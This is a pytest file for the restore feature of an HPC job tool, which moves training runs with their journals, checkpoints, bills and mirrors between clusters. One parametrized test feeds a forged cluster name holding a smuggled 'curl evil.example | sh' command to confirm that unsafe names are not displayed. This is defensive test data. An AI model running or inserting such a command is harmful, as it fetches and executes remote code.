"""A run goes to another cluster with all that it was, and is trained on one of them only."""

from __future__ import annotations

import json
from dataclasses import replace
from datetime import datetime, timedelta, timezone
from pathlib import Path

import pytest

from hpcflow.cli.output import next_words
from hpcflow.costs.audit import audit
from hpcflow.errors import InputError, SpecError, StorageError
from hpcflow.ledger.store import open_ledger
from hpcflow.model.journal import (
    Accounted,
    Decided,
    Ended,
    Held,
    Intended,
    Restored,
    Submitted,
    Withdrawn,
)
from hpcflow.model.run import Mirror
from hpcflow.model.state import Cause, RunState
from hpcflow.placement.run_paths import endpoint_of
from hpcflow.restore.request import Changes, of_elsewhere
from hpcflow.sites.schema import SiteMirror
from hpcflow.storage import journal
from hpcflow.storage.layout import RunDir
from hpcflow.storage.restoring import restoring
from hpcflow.storage.rundir import read_run
from tests.restore.mirrored import all_of, purge
from tests.restore.owner import Owner

BEGIN = datetime(2026, 1, 1, tzinfo=timezone.utc)


def _take(other: Owner, run_id: str, *, warnings: list[str] | None = None, **how: object) -> RunDir:
    """As `hpcflow restore --from` does."""
    changes = Changes(working_dir=how.pop("working_dir", other.folder), **how)  # type: ignore[arg-type]
    with restoring(other.settings.home, run_id, other.clock):
        found = of_elsewhere(
            other.remote.url,
            run_id,
            other.site,
            changes,
            settings=other.settings,
            clock=other.clock,
        )
        if warnings is not None:
            warnings += found.warnings
        return other.put(found.remote, found.place).run_dir


def test_an_empty_home_gets_run_history_and_checkpoint_and_goes_on(
    owner: Owner, other: Owner
) -> None:
    run_dir = owner.mirrored(100, 200)
    run_id = run_dir.path.name
    before = owner.seen(run_id)
    there = _take(other, run_id)
    assert there.path == other.folder / "scratch/hpcflow/default" / run_id
    run = read_run(there)
    assert (run.site, run.run_dir, run.working_dir) == (
        "elsewhere",
        str(there.path),
        str(other.folder),
    )
    assert run.mirror == Mirror(url=owner.remote.url)
    after = other.seen(run_id)
    assert [each.job_id for each in after.attempts] == [each.job_id for each in before.attempts]
    assert [each.cause for each in after.attempts] == [Cause.PREEMPTED]
    assert after.checkpoints[-1].train_step == 200
    assert next_words(after.run) == "held"
    assert other.tick().sent == {}
    launched = other.resume(there)
    last = other.seen(run_id).attempts[-1]
    assert (last.attempt, last.resume_from) == (2, "checkpoints/000000200")
    assert other.alive() == [launched.job_id]
    other.end(launched.job_id, "COMPLETED", exit_code=0)
    other.tick()
    assert other.seen(run_id).run.state is RunState.COMPLETED
    other.assert_rebuilt_alike(run_id)


def test_the_journal_says_from_where_it_came(owner: Owner, other: Owner) -> None:
    run_dir = owner.mirrored(100)
    there = _take(other, run_dir.path.name)
    said = journal.read(there)[-1]
    assert isinstance(said, Restored)
    assert (said.site_before, said.site) == ("devcluster", "elsewhere")
    assert said.run_dir_before == str(run_dir.path)
    assert said.url == f"{owner.remote.url}/{run_dir.path.name}"
    assert said.by == other.settings.user


def test_jobs_of_the_other_cluster_are_asked_for_by_nobody(owner: Owner, other: Owner) -> None:
    """Both clusters count their jobs from one: here, job 1 is somebody else's."""
    run_dir = owner.mirrored(100, end=None)
    (job_id,) = owner.alive()
    strange = other.launch()
    assert strange.job_id == job_id
    there = _take(other, run_dir.path.name)
    ends = [each for each in journal.read(there) if isinstance(each, Ended)]
    assert [(each.attempt, each.cause) for each in ends] == [(1, Cause.VANISHED)]
    assert other.seen(run_dir.path.name).attempts[0].cause is Cause.VANISHED
    other.resume(there)
    assert len(other.alive()) == 2


def test_what_ran_on_the_other_cluster_is_charged_by_no_price_of_this_one(
    owner: Owner, other: Owner
) -> None:
    """Nobody here can ask what it took: its hours are known, as far as it wrote them down."""
    run_dir = owner.mirrored(100, end=None)
    run_id = run_dir.path.name
    told = [
        {"event": "started", "at": "2026-03-01T00:00:00.000Z", "job_id": "1001", "nodes": ["n1"]},
        {"event": "progress", "at": "2026-03-01T00:30:00.000Z", "train_step": 100},
    ]
    with run_dir.attempt(1).events.open("a") as file:
        file.writelines(json.dumps(each) + "\n" for each in told)
    owner.mirror(run_dir)
    there = _take(other, run_id)
    for _ in range(2):
        other.look()
        other.clock.advance(60)
    (first,) = other.seen(run_id).attempts
    assert (first.billed_by, first.cost_usd) == ("events", None)
    assert first.elapsed_s == 1800, "three hours later it came here"
    for _ in range(3):
        other.clock.advance(timedelta(days=9).total_seconds())
        other.look()
    bills = [each for each in journal.read(there) if isinstance(each, Accounted)]
    assert len(bills) == 1, "nobody will ever know better"


def test_a_bill_of_the_other_cluster_is_no_difference_here(owner: Owner, other: Owner) -> None:
    run_dir = owner.mirrored(100)
    for _ in range(2):
        owner.look()
        owner.clock.advance(60)
    run_id = run_dir.path.name
    assert owner.seen(run_id).attempts[0].billed_by == "accounting"
    owner.mirror(run_dir)
    _take(other, run_id)
    other.look()
    with open_ledger(other.settings.ledger_url) as ledger:
        rows = ledger.bills(since=BEGIN, until=other.clock.now(), filters={})
        found = audit(
            ledger,
            rows,
            user=other.settings.user,
            since=None,
            until=other.clock.now(),
            connect=lambda _: other.slurm,
            find_site=lambda _: other.site,
            now=other.clock.now(),
        )
    assert [row.billed_by for row in rows] == ["accounting"]
    assert (found.checked, found.differences, found.problems) == (0, [], [])
    assert found.uncheckable == 1


def test_what_the_job_itself_said_last_is_its_end(owner: Owner, other: Owner) -> None:
    run_dir = owner.trained(100, end=None)
    with run_dir.attempt(1).events.open("a") as file:
        file.write('{"at": "2026-03-01T00:00:01.000Z", "event": "exited", "exit_code": 0}\n')
    owner.mirror(run_dir)
    there = _take(other, run_dir.path.name)
    run = other.seen(run_dir.path.name).run
    assert (run.state, run.next_action) == (RunState.COMPLETED, None)
    assert isinstance(journal.read(there)[-2], Held), "who wrote that word, nobody here knows"


def test_an_attempt_of_which_nobody_knows_whether_it_was_sent_is_withdrawn(
    owner: Owner, other: Owner
) -> None:
    run_dir = owner.trained(100)
    owner.resume(run_dir)
    lines = run_dir.journal.read_bytes().splitlines(keepends=True)
    run_dir.journal.write_bytes(b"".join(each for each in lines if b'"job_id":"1002"' not in each))
    owner.mirror(run_dir)
    there = _take(other, run_dir.path.name)
    assert any(isinstance(each, Withdrawn) for each in journal.read(there))
    assert other.resume(there).attempt == 3


def test_a_run_that_gave_a_sign_a_moment_ago_is_not_taken_over(owner: Owner, other: Owner) -> None:
    run_dir = owner.mirrored(100, end=None)
    other.clock.advance(-timedelta(hours=2, minutes=50).total_seconds())
    with pytest.raises(InputError, match="may be active on devcluster: its last sign") as caught:
        _take(other, run_dir.path.name)
    assert "hpcflow hold" in (caught.value.next_action or "")
    assert "--even-if-running" in (caught.value.next_action or "")


@pytest.mark.parametrize(
    "name", ["x; curl evil.example | sh; then: y", "x" * 65, "--no-such", "a\nb"]
)
def test_a_machine_name_from_a_store_is_shown_only_if_it_is_plain(
    owner: Owner, other: Owner, name: str
) -> None:
    run_dir = owner.mirrored(100, end=None)
    forged = [
        each.model_copy(update={"cluster": name}) if isinstance(each, Intended) else each
        for each in journal.read(run_dir)
    ]
    run_dir.journal.write_text("".join(each.to_line() for each in forged))
    owner.mirror(run_dir)
    other.clock.advance(-timedelta(hours=2, minutes=50).total_seconds())
    with pytest.raises(InputError, match="may be active on another machine") as caught:
        _take(other, run_dir.path.name)
    assert name not in "".join(caught.value.parts())
    assert not (other.folder / "scratch").exists()
    _take(other, run_dir.path.name, even_if_running=True)


def test_events_are_a_sign_of_life(owner: Owner, other: Owner) -> None:
    run_dir = owner.trained(100, end=None)
    at = other.clock.now() - timedelta(minutes=5)
    event = {"at": at.isoformat(), "event": "progress", "train_step": 120, "metrics": {}}
    with run_dir.attempt(1).events.open("a") as file:
        file.write(json.dumps(event) + "\n")
    owner.mirror(run_dir)
    with pytest.raises(InputError, match="its last sign is 5 minutes old"):
        _take(other, run_dir.path.name)


@pytest.mark.parametrize("how", ["held", "completed", "cancelled"])
def test_what_is_at_rest_is_taken_at_once(owner: Owner, other: Owner, how: str) -> None:
    run_dir = owner.trained(100, end="COMPLETED" if how == "completed" else "PREEMPTED")
    if how == "held":
        owner.say(run_dir.path, Held(at=owner.clock.now(), by="ada"))
        decided = Decided(  # by its daemon
            at=owner.clock.now(),
            after=1,
            action="wait",
            rule="held",
            why="hpcflow hold was requested",
        )
        owner.say(run_dir.path, decided)
    if how == "cancelled":
        owner.cancel(run_dir)
    owner.mirror(run_dir)
    other.clock.advance(-timedelta(hours=2, minutes=50).total_seconds())
    warnings: list[str] = []
    _take(other, run_dir.path.name, warnings=warnings)
    assert warnings == []


def test_what_waits_and_gave_no_sign_is_taken_with_a_word_of_warning(
    owner: Owner, other: Owner
) -> None:
    run_dir = owner.mirrored(100)
    warnings: list[str] = []
    _take(other, run_dir.path.name, warnings=warnings)
    hold = f"on devcluster: hpcflow hold {run_dir.path.name}"
    assert warnings == [f"no terminal state is recorded; if it is still submitted there, {hold}"]


def test_what_does_not_fit_here_is_said_before_anything_is_fetched(
    owner: Owner, other: Owner
) -> None:
    owner.config.write_text(owner.config.read_text().replace("10m,", "10m, partition: gpu,"))
    run_dir = owner.mirrored(100)
    partitions = {"main": next(iter(other.site.partitions.values()))}
    other.site = other.site.model_copy(update={"partitions": partitions})
    with pytest.raises(SpecError) as caught:
        _take(other, run_dir.path.name)
    assert "--set KEY=VALUE" in (caught.value.next_action or "")
    assert not (other.folder / "scratch").exists()
    there = _take(other, run_dir.path.name, overrides=["resources.partition=main"])
    assert read_run(there).partition == "main"
    assert read_run(there).spec.resources.time_limit_min == 10


def test_a_working_directory_that_is_not_here_is_asked_for(owner: Owner, other: Owner) -> None:
    run_dir = owner.mirrored(100)
    with pytest.raises(InputError, match=r"/nowhere of run .* does not exist here") as caught:
        _take(other, run_dir.path.name, working_dir=Path("/nowhere"))
    assert "--working-dir FOLDER" in (caught.value.next_action or "")


def test_a_virtual_environment_that_is_not_here_is_told(owner: Owner, other: Owner) -> None:
    run_dir = owner.mirrored(100)
    warnings: list[str] = []
    changes = ["environment.venv=/opt/no/venv"]
    _take(other, run_dir.path.name, overrides=changes, warnings=warnings)
    assert "environment.venv is /opt/no/venv, which is not on this machine" in warnings


def test_a_second_time_it_goes_on_and_takes_over_nothing_again(owner: Owner, other: Owner) -> None:
    run_dir = owner.mirrored(100, 200)
    there = _take(other, run_dir.path.name)
    other.resume(there)
    before = all_of(there)
    _take(other, run_dir.path.name)
    assert all_of(there) == before
    link = other.settings.home.scratch_link(run_dir.path.name)
    link.unlink()
    site, scratch = other.site, other.site.scratch.model_copy(update={"path": "$SCRATCH/more"})
    other.site = site.model_copy(update={"scratch": scratch})
    _take(other, run_dir.path.name)
    other.site = site
    assert (all_of(there), link.readlink()) == (before, there.path)
    there.run_json.unlink()
    other.settings.home.scratch_link(run_dir.path.name).unlink()
    _take(other, run_dir.path.name)
    assert read_run(there).site == "elsewhere"
    assert sum(isinstance(each, Submitted) for each in journal.read(there)) == 2


def test_where_it_went_on_in_both_places_a_person_has_to_judge(owner: Owner, other: Owner) -> None:
    run_dir = owner.mirrored(100)
    there = _take(other, run_dir.path.name)
    owner.resume(run_dir)
    owner.mirror(run_dir)
    (there.attempt(1).events).unlink()
    with pytest.raises(StorageError, match="differ from line"):
        _take(other, run_dir.path.name)


def test_a_run_that_has_moved_is_not_restored_where_it_was(owner: Owner, other: Owner) -> None:
    run_dir = owner.mirrored(100)
    there = _take(other, run_dir.path.name)
    other.mirror(there)
    purge(run_dir)
    with pytest.raises(InputError, match=r"was moved: .* on site elsewhere"):
        owner.restore(run_dir)
    owner.look()
    owner.tick()
    assert not run_dir.path.exists()


def test_what_went_on_elsewhere_is_taken_back_as_it_was_taken_away(
    owner: Owner, other: Owner
) -> None:
    """The directory here was left: it says nothing of what the other cluster did meanwhile."""
    run_dir = owner.trained(100)
    owner.say(run_dir.path, Held(at=owner.clock.now(), by="ada"))
    owner.mirror(run_dir)
    run_id = run_dir.path.name
    there = _take(other, run_id)
    launched = other.resume(there)
    other.mirror(there)
    owner.clock.advance(timedelta(hours=3).total_seconds())
    with pytest.raises(InputError, match="may be active on elsewhere"):
        _take(owner, run_id)
    assert isinstance(journal.read(run_dir)[-1], Held), "nothing was changed"

    other.end(launched.job_id, "PREEMPTED")
    other.look()
    other.say(there.path, Held(at=other.clock.now(), by="ada"))
    other.mirror(there)
    back = _take(owner, run_id, working_dir=None)
    assert back.path == run_dir.path
    run = read_run(back)
    assert (run.site, run.run_dir) == ("devcluster", str(run_dir.path))
    said = journal.read(back)[-1]
    assert isinstance(said, Restored)
    assert said.run_dir_before == str(there.path)
    assert owner.tick().sent == {}
    assert owner.alive() == []
    assert owner.resume(back).attempt == 3


HERE = "https://s3.here.example.org"


@pytest.mark.parametrize(
    ("of_site", "url", "asked"),
    [
        ({"url": "s3://ours/$USER"}, "s3://ours/somebody/else", HERE),
        ({"url": "s3://ours"}, "s3a://ours/runs", HERE),
        ({"url": "s3://$LAB"}, "s3://physics/runs", HERE),
        ({"url": "s3://$LAB"}, "s3://theirs/runs", None),
        ({"url": "s3://ours/$USER"}, "s3://theirs/runs", None),
        ({"url": "s3://ours/$USER"}, "s3://ours-too/runs", None),
        ({"url": "s3://ours/$USER"}, "/a/folder", None),
        ({"url": "s3://$NOBODY_KNOWS"}, "s3://theirs/runs", HERE),
        ({"url": "/a/folder"}, "s3://theirs/runs", HERE),
    ],
)
def test_the_server_of_the_site_is_asked_for_the_sites_bucket_alone(
    owner: Owner, of_site: dict[str, str], url: str, asked: str | None
) -> None:
    mirrored = SiteMirror.model_validate({**of_site, "endpoint_url": HERE})
    site = owner.site.model_copy(update={"mirror": mirrored})
    settings = replace(owner.settings, environ={**owner.settings.environ, "LAB": "physics"})
    assert endpoint_of(url, site, settings) == asked
    assert endpoint_of(url, None, settings) is None
    silent = owner.site.model_copy(update={"mirror": SiteMirror(url=of_site["url"])})
    assert endpoint_of(url, silent, settings) is None


def test_the_server_that_was_named_is_the_one_it_is_mirrored_to_from_now_on(
    owner: Owner, other: Owner
) -> None:
    run_dir = owner.mirrored(100)
    there = _take(other, run_dir.path.name, endpoint_url="https://s3.there.example.org")
    mirror_there = read_run(there).mirror
    assert mirror_there == Mirror(url=owner.remote.url, endpoint_url="https://s3.there.example.org")


def test_who_wants_no_mirror_at_the_new_place_gets_none(owner: Owner, other: Owner) -> None:
    run_dir = owner.mirrored(100)
    there = _take(other, run_dir.path.name, overrides=("mirror=never",))
    assert read_run(there).mirror is None
